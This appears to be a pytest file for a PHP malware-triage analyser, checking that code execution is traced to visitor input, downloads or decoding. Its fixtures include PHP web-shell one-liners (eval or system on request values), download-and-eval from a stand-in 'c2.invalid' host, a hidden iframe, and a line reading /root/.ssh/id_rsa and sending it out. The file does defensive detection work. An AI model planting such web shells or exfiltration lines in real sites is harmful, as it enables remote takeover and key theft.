"""PHP: what is run, and where it came from: a visitor, another host, an encoding, a file."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.triage.allowance import Allowance
from vedette.triage.fact import Act, Fact
from vedette.triage.facts import facts
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample


def read(text: str) -> list[Fact]:
    return list(facts(Sample(name="a.php", data=text.encode(), kind=Kind.PHP), Allowance()))


def fed(text: str, act: Act) -> set[Act]:
    """Return what flows into facts of one act."""
    return {one.act for fact in read(text) if fact.act is act for one in fact.inputs}


@pytest.mark.parametrize(
    ("text", "act", "source"),
    [
        ("<?php eval($_POST['x']);", Act.RUNS_CODE, Act.READS_INPUT),
        ("<?php $c = $_GET['c']; system($c);", Act.RUNS_COMMAND, Act.READS_INPUT),
        ("<?php $f = 'ass'.'ert'; $f($_REQUEST['q']);", Act.RUNS_CODE, Act.READS_INPUT),
        ("<?php $_GET['f']($_GET['a']);", Act.RUNS_CODE, Act.READS_INPUT),
        ("<?php include $_GET['page'];", Act.RUNS_CODE, Act.READS_INPUT),
        ("<?php eval(base64_decode('ZWNobyAxOw=='));", Act.RUNS_CODE, Act.DECODES),
        ("<?php $x = file_get_contents('http://c2.invalid/a'); eval($x);", Act.RUNS_CODE, Act.DOWNLOADS),
        ("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'x.php');", Act.WRITES_FILE, Act.READS_INPUT),
        ("<?php echo `{$_GET['c']}`;", Act.RUNS_COMMAND, Act.READS_INPUT),
    ],
)
def test_what_runs_knows_where_it_came_from(text: str, act: Act, source: Act) -> None:
    assert source in fed(text, act)


def test_a_frame_nobody_sees_is_told() -> None:
    text = "<?php echo '<iframe src=\"http://c2.invalid\" width=0 height=0></iframe>';"
    assert [one.act for one in read(text)] == [Act.OPENS_EXTERNAL]


def test_a_quote_stands_where_its_place_is() -> None:
    (fact,) = [one for one in read("eval($_POST['x']);") if one.act is Act.RUNS_CODE]
    assert fact.quote == "eval($_POST['x'])"
    assert (getattr(fact.place, "line", 0), getattr(fact.place, "column", 0)) == (1, 1)


@pytest.mark.parametrize(
    "text",
    [
        "<?php require 'a.php'; echo htmlspecialchars($_GET['q']);",
        "<?php $x = json_decode(base64_decode($_POST['x'])); echo $x->name;",
        "<?php function run($a) { return $a + 1; } echo run(2);",
    ],
)
def test_ordinary_pages_run_nothing_of_others(text: str) -> None:
    assert not {Act.RUNS_CODE, Act.RUNS_COMMAND} & {one.act for one in read(text)}


@given(st.text(alphabet="$(){}[].'\"\\;<>?=^~ \nabx019_GET", max_size=120))
def test_no_text_breaks_it(text: str) -> None:
    read(f"<?php eval({text}")


@pytest.mark.parametrize(
    "text",
    [
        "<?php function run($c) { popen($c, 'r'); } run($_GET['c']);",
        "<?php class A { function x() { eval($this->c); } } $a->c = $_POST['c'];",
        "<?php foreach ($_POST as $k => $v) { $$k = $v; } system($cmd);",
        "<?php extract($_REQUEST); eval($code);",
        "<?php $h = getallheaders(); eval($h['Cmd']);",
        "<?php array_filter([$_GET['c']], 'system');",
        "<?php call_user_func($_GET['f'], $_GET['a']);",
        "<?php ob_start('system'); echo $_GET['c'];",
        "<?php foreach ($_POST['cmds'] as $c) { passthru($c); }",
        "<?php passthru($_SERVER['HTTP_X_CMD']);",
    ],
)
def test_what_a_visitor_sends_is_followed_to_where_it_runs(text: str) -> None:
    assert Act.READS_INPUT in fed(text, Act.RUNS_CODE) | fed(text, Act.RUNS_COMMAND)


@pytest.mark.parametrize(
    "text",
    [
        "<?php $f = escapeshellarg($_GET['f']); system('convert ' . $f);",
        "<?php $p = basename($_GET['page']); include 'pages/' . $p . '.php';",
        "<?php function a() { $x = $_GET['x']; } function b($x) { eval($x); } b('1');",
        "<?php passthru($_SERVER['DOCUMENT_ROOT'] . '/x');",
        "<?php $x = array_map('trim', explode(',', $_POST['tags']));",
        "<?php $n = (string) intval($_GET['n']); exec('renice ' . $n);",
        "<?php extract($args); include $this->dir . $file;",
    ],
)
def test_what_is_made_safe_or_stays_elsewhere_is_not(text: str) -> None:
    assert Act.READS_INPUT not in fed(text, Act.RUNS_CODE) | fed(text, Act.RUNS_COMMAND)


def test_downloads_are_followed_through_files() -> None:
    copied = "<?php copy('http://c2.invalid/a', '/opt/a1'); system('perl /opt/a1');"
    written = "<?php file_put_contents('/opt/x.php', file('http://c2.invalid/a')); include '/opt/x.php';"
    assert Act.DOWNLOADS in fed(copied, Act.RUNS_COMMAND)
    assert Act.DOWNLOADS in fed(written, Act.RUNS_CODE)


def test_secrets_in_an_address_are_sent() -> None:
    text = "<?php $k = file_get_contents('/root/.ssh/id_rsa'); file_get_contents('http://c2.invalid/?' . $k);"
    assert Act.READS_SECRET in fed(text, Act.SENDS)
    assert Act.SENDS not in {
        one.act for one in read("<?php file_get_contents('http://a.invalid/?v=' . VERSION);")
    }


def test_mail_to_a_list_of_a_visitor_says_so() -> None:
    loop = "<?php foreach (explode(',', $_POST['to']) as $t) { mail($t, 's', 'b'); }"
    assert "mail in a loop" in {one.how for one in read(loop)}
    assert "mail in a loop" not in {one.how for one in read("<?php mail('me@a.invalid', 's', $_POST['m']);")}


def test_nesting_without_end_ends() -> None:
    assert read("<?php " + "call_user_func(" * 900 + "$_GET[0]" + ")" * 900 + ";") is not None
    assert read("<?php $x = " + ".".join(["'a'"] * 9000) + "; eval($x);")
